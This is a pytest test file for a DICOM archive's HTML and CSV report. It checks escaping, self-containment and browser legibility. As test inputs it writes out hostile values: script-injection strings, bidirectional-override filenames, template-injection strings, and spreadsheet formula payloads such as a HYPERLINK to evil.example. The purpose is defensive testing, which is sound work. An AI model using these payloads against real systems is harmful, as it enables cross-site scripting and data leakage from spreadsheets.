"""The HTML of `archive report`, looked at in a real browser."""

from __future__ import annotations

import csv
import html
import os
import re
import sqlite3
import sys
from contextlib import closing

import msgspec
import pki
import pytest
from _archive import TRUST, VERDICTS, VERIFY
from _browser import Browser, look

from dicomseal.archive.ledger.ledger import Ledger
from dicomseal.archive.reports.html import render
from dicomseal.archive.reports.summary import summarize

# names of files: markup, a way out of an attribute, text that runs backwards, a line end, a
# formula, one that has no place to break, and a template of the engine
HOSTILE = [
    "<b>x&y.dcm",
    "'\"><script>alert(1)<\\script>.dcm",
    "\u202emcd.tac\u2066.dcm",
    "a\nb.dcm",
    "=HYPERLINK(1).dcm",
    f"{'x' * 180}.dcm",
    "{{ 7 * 7 }}{% raw %}.dcm",
]
BIDI = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
CONTROL = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    running = Browser(tmp_path_factory.mktemp("browser"))
    yield running
    running.close()


def hostile(folder):
    data = (folder / "archive/failed.dcm").read_bytes()
    for name in HOSTILE:
        (folder / "archive" / name).write_bytes(data)


@pytest.fixture
def page(run, folder):
    """After a second run, in which some of all that can change has changed."""
    run(*VERIFY)
    hostile(folder)
    (folder / "archive/a/b/again.dcm").write_bytes(b"")
    (folder / "archive/unsigned.dcm").unlink()
    run(*VERIFY)
    code, out, err = run("archive", "report", "ledger.db", "--html", "report.html")
    assert (code, out, err) == (0, "", "")
    return folder / "report.html"


def test_it_needs_nothing_else(page):
    text = page.read_text("utf-8")
    assert not re.search(r"<script|<link|<img|<iframe|src=|url\(|https?:", text)
    addresses = set(re.findall(r'href="([^"]*)"', text))
    assert {one for one in addresses if one[0] != "#"} == {"./report-failures.csv"}
    assert {one[1:] for one in addresses if one[0] == "#"} <= set(re.findall(r'id="(\w+)"', text))
    assert "<b>x" not in text
    assert not BIDI.search(text)
    assert not CONTROL.search(text)


def test_the_same_by_format(run, page):
    first = page.read_text("utf-8")
    os.unlink(page)
    moment = re.compile(r"Written by .*")
    for options in (("--output", "report.html"), ()):
        code, out, _ = run("archive", "report", "ledger.db", "--format", "html", *options)
        assert code == 0
        second = out.encode("latin-1").decode() if out else page.read_text("utf-8")
        if out:  # there is nothing beside it
            assert "report-failures.csv" not in second
            first = re.sub(r"All of them, each [^<]*<a href.*?</a>\.", "", first)
        assert moment.sub("", second) == moment.sub("", first)
    assert run("archive", "report", "ledger.db", "--html", "x", "--format", "json")[0] == 2
    assert run("archive", "report", "ledger.db", "--html", "x", "--output", "y")[0] == 2


def test_without_the_engine(run, folder, monkeypatch):
    """Text and JSON work; of a page it is said what is missing, and no file is begun."""
    from dicomseal.archive.reports import html as page

    run(*VERIFY)
    monkeypatch.setitem(sys.modules, "jinja2", None)
    page._environment.cache_clear()
    try:
        code, out, err = run("archive", "report", "ledger.db", "--html", "report.html")
        assert (code, out) == (2, "")
        assert err == "dicomseal: a page needs the extra: pip install dicomseal[archive]\n"
        assert not [name for name in os.listdir() if name.startswith("report")]
        assert run("archive", "report", "ledger.db")[0] == 0
        assert run("archive", "report", "ledger.db", "--format", "json")[0] == 0
    finally:
        page._environment.cache_clear()


@pytest.mark.parametrize(("width", "how"), [
    (390, "light"), (390, "dark"), (1280, "light"), (1280, "dark"), (680, "paper"),
])  # fmt: skip
def test_in_a_browser(browser, page, width, how):
    """All can be read, on a phone, at night and on paper: nothing is cut, hidden or too pale."""
    browser.requests.clear()
    browser.open(page.as_uri(), width, dark=how == "dark", paper=how == "paper")
    assert browser.measured() == {
        "width": 0, "wide": [], "cut": [], "over": [], "faint": [], "dim": [],
    }  # fmt: skip
    assert set(browser.requests) == {page.as_uri()}
    assert browser.complaints == []
    night = browser.value("getComputedStyle(document.body).backgroundColor") != "rgb(255, 255, 255)"
    assert night == (how == "dark")


def test_what_is_in_it(browser, page):
    browser.open(page.as_uri(), 1280)
    said = browser.value("document.body.innerText")
    for text in (
        "8 files failed, 2 files could not be read and 1 file could not be decided.",
        "/archive/<b>x&y.dcm\t", "\\u202emcd.tac\\u2066.dcm", "/archive/a\\nb.dcm",
        "'\"><script>alert(1)<\\\\script>.dcm", "{{ 7 * 7 }}{% raw %}.dcm",
        "dicomseal explain FILE --against COPY", "newly_failing\t1\t", "vanished\t1\t", "new\t7\t",
        "Within 30 days", "In 31 to 90 days", "report-failures.csv",
    ):  # fmt: skip
        assert text in said, text
    with Ledger("ledger.db") as ledger:
        head = ledger.head().hex()
    root = pki.member("root").certificate
    for digest in (head, root.fingerprint(pki.hashes.SHA256()).hex()):
        assert digest in said
    assert browser.value("document.scripts.length") == 0


def test_every_bar_is_as_long_as_its_number(browser, page):
    """Drawn, and labelled: beside each bar stand its name and its number."""
    browser.open(page.as_uri(), 1280)
    bars = browser.value(
        "[...document.querySelectorAll('#verdicts ~ .bars')][0].querySelectorAll('.bar')"
        ".values().map((one) => [one.querySelector('.name').innerText,"
        " one.querySelector('.count').innerText, one.querySelector('rect').getBoundingClientRect()"
        ".width, getComputedStyle(one.querySelector('rect')).fill]).toArray()"
    )
    counts = VERDICTS | {"passed": 1, "failed": 8, "unsigned": 0, "error": 2}
    assert {name: int(count) for name, count, _, _ in bars} == {
        name: count for name, count in counts.items() if count
    }
    longest = max(width for _, _, width, _ in bars)
    for _, count, width, _ in bars:
        assert width == pytest.approx(longest * int(count) / 8, rel=0.02)
    assert len({fill for _, _, _, fill in bars}) == len(bars)


def test_a_page_that_is_wrong_is_noticed(browser, tmp_path):
    """The measuring itself: what is too wide, cut, one over the other, or too pale."""
    page = tmp_path / "page.html"
    page.write_text(
        "<meta name=viewport content='width=device-width'><body style='background: #fff'>"
        "<p style='color: #999'>pale<p style='width: 900px'>"
        + "wide "
        * 200
        + "<p style='width: 3em; overflow: hidden; white-space: nowrap'>cut off at its end"
        "<p>under<p style='margin-top: -2.3em'>over"
        "<svg width=20 height=20><rect width=20 height=20 fill='#eee'/></svg>"
    )
    browser.open(page.as_uri(), 390)
    found = browser.measured()
    assert found["width"] > 400
    assert found["faint"] == [["pale", 2.85]]
    assert found["wide"]
    assert found["cut"] == ["cut off at its end"]
    assert found["over"] == [["under", "over"]]
    assert [ratio for _, ratio in found["dim"]] == [1.16]


def test_all_of_them_are_in_a_table_beside_it(run, page):
    """However few are listed; no cell is a formula, has a line end or changes the direction."""
    assert run("archive", "report", "ledger.db", "--html", "report.html", "--most", "2")[0] == 0
    text = page.read_text("utf-8")
    assert "The first 2 of 10 are here." in text
    with open("report-failures.csv", newline="", encoding="utf-8") as file:
        lines = list(csv.DictReader(file))
    assert len(lines) == 11
    assert {line["verdict"] for line in lines} == {"failed", "error", "indeterminate"}
    cells = [cell for line in lines for cell in line.values()]
    assert not [cell for cell in cells if cell[:1] in {*"=+-@\t\r\n"} or not cell.isprintable()]
    failed = next(line for line in lines if line["path"].endswith("/<b>x&y.dcm"))
    assert (failed["reason"], failed["signer"]) == ("HASH_FAILURE", "CN=Test rsa")
    assert "dicomseal explain FILE --against COPY" in failed["what_to_do"]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\u202e="])
def test_the_table_holds_no_formulas(run, folder, first):
    formula = f'{first}HYPERLINK("http://evil.example/"&A1)'
    run(*VERIFY)
    with closing(sqlite3.connect("ledger.db")) as db, db:
        db.execute("UPDATE object SET path = ?, sentence = ?, sop_instance_uid = ?"
                   " WHERE verdict = 'failed'", (formula, formula, formula))  # fmt: skip
        db.execute("UPDATE signature SET sentence = ?", (formula,))
        db.execute("UPDATE signer SET subject = ?", (formula,))
    assert run("archive", "report", "ledger.db", "--csv", "x.csv")[0] == 0
    with open("x.csv", newline="", encoding="utf-8") as file:
        lines = list(csv.reader(file))
    assert {len(line) for line in lines} == {8}
    cells = [cell for line in lines for cell in line]
    assert sum("HYPERLINK" in cell for cell in cells) >= 4
    assert not [cell for cell in cells if cell[:1] in {*"=+-@\t\r\n\uff1d"}]
    assert all(cell.isprintable() for cell in cells)


def test_what_strangers_name_is_harmless_everywhere(run, folder, browser):
    """Subjects, UIDs, sentences, reasons, classes, modalities, months, roots: all that is shown."""
    evil = "</title></style><script>alert(1)</script>\"'\u202e\u2028\x1b[31m\n{{ 7*7 }}"
    run(*VERIFY)
    with closing(sqlite3.connect("ledger.db")) as db, db:
        for table, columns in {
            "object": "path sop_class_uid sop_instance_uid modality reason sentence reasons",
            "signature": "uid mac_algorithm reason sentence judged_by weak",
            "signer": "subject issuer serial sha256 key not_before not_after",
        }.items():
            for column in columns.split():
                db.execute(f"UPDATE {table} SET {column} = ?", (evil,))
        db.execute("UPDATE object SET uncovered = 1, uncovered_classes = ?",
                   (f"other={evil.replace(' ', '')}",))  # fmt: skip
        asked = db.execute("SELECT asked FROM run").fetchone()[0]
        quoted = msgspec.json.encode(evil).decode()
        asked = re.sub(r'"roots":\[[^]]*\]', lambda _: f'"roots":[{quoted}]', asked)
        asked = re.sub(r'"subject":"[^"]*"', lambda _: f'"subject":{quoted}', asked)
        db.execute("UPDATE run SET asked = ?", (asked,))
    code, _, err = run("archive", "report", "ledger.db", "--html", "report.html")
    assert (code, err) == (0, "")
    text = (folder / "report.html").read_text("utf-8")
    assert not re.search(r"<script", text)
    assert not BIDI.search(text)
    assert not CONTROL.search(text)
    assert text.count("&lt;script&gt;") > 12
    assert "49" not in re.sub(r"[0-9a-f]{64}|[\d,.]{4,}", "", text)
    browser.open((folder / "report.html").as_uri(), 390)
    assert browser.measured()["width"] == 0
    assert browser.complaints == []
    out = run("archive", "report", "ledger.db")[1].encode("latin-1").decode()
    assert not BIDI.search(out)
    assert not CONTROL.search(out)
    assert "\u2028" not in out


def test_a_run_in_which_all_is_well(run, folder, browser):
    (folder / "archive/failed.dcm").unlink()
    run("archive", "verify", "archive/a", "--ledger", "ledger.db", *TRUST)
    with Ledger("ledger.db") as ledger:
        text = render(summarize(ledger), 0.0)
    assert "Nothing failed: 2 files passed." in html.unescape(text)
    assert "What changed" not in text
    (folder / "report.html").write_text(text, "utf-8")
    browser.open((folder / "report.html").as_uri(), 390)
    assert not any(browser.measured().values())


def test_a_run_without_a_file(run, folder, browser):
    os.mkdir("nothing")
    run("archive", "verify", "nothing", "--ledger", "ledger.db", *TRUST)
    run("archive", "report", "ledger.db", "--html", "report.html")
    browser.open((folder / "report.html").as_uri(), 390)
    assert not any(browser.measured().values())


def test_what_the_browser_would_notice(tmp_path):
    """The looking itself: a page that asks the network, complains, and draws nothing."""
    page = tmp_path / "page.html"
    page.write_text(
        '<img src="http://192.0.2.1/x.png"><link rel="stylesheet" href="https://example.org/a.css">'
        '<script>console.error("oops")</script>'
    )
    seen = look(page, 500)
    assert sorted(seen.requests) == ["http://192.0.2.1/x.png", "https://example.org/a.css"]
    assert "oops" in seen.console[0]
    policy = "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'\">"
    page.write_text(policy + page.read_text())
    seen = look(page, 500)
    assert seen.requests == []
    assert any("Content Security Policy" in line for line in seen.console)
    assert seen.colours["ffffff"] > 400_000
